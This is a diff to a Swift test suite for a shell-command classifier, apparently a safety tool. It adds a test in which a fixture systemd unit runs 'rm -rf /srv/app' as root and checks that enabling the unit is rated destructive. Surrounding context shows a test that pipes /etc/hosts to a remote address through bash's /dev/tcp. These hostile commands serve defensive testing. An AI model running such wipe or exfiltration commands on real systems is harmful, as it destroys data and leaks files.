@@ -5,6 +5,21 @@ import Testing
 @Suite struct ShellClassifierTests {
     let classifier = ShellClassifier(fileSystem: FixedFileSystem(files: ["/srv/app/config.yaml": "x"], directories: ["/srv", "/srv/app"]))
 
+    /// A unit linked or enabled from a file runs its `Exec…=` lines as root when it starts; an
+    /// edit is whatever the editor leaves.
+    @Test func unitFilesLinkedFromAPathAreWhatTheyRun() {
+        let units = ShellClassifier(fileSystem: FixedFileSystem(files: [
+            "/tmp/wipe.service": "[Service]\nExecStartPre=-/bin/rm -rf /srv/app\nExecStart=/usr/bin/sleep infinity\n",
+            "/tmp/web.service": "[Service]\nExecStart=/usr/bin/sleep infinity\n",
+        ], directories: ["/tmp", "/srv", "/srv/app"]))
+        #expect(units.classify(commandLine: "systemctl link /tmp/wipe.service").effect == .destructive)
+        #expect(units.classify(commandLine: "systemctl enable --now /tmp/wipe.service").effect == .destructive)
+        #expect(units.classify(commandLine: "systemctl enable /tmp/web.service").effect == .write)
+        #expect(units.classify(commandLine: "systemctl enable /tmp/missing.service").effect == .unknown)
+        #expect(units.classify(commandLine: "systemctl enable --now nginx").effect == .write)
+        #expect(units.classify(commandLine: "systemctl edit --full nginx").effect == .unknown)
+    }
+
     /// bash's `/dev/tcp/HOST/PORT` is a connection, not a file: what is printed into it is sent.
     @Test func devTcpRedirectionsSendOverTheNetwork() {
         let facts = classifier.classify(commandLine: "cat /etc/hosts > /dev/tcp/203.0.113.9/80")
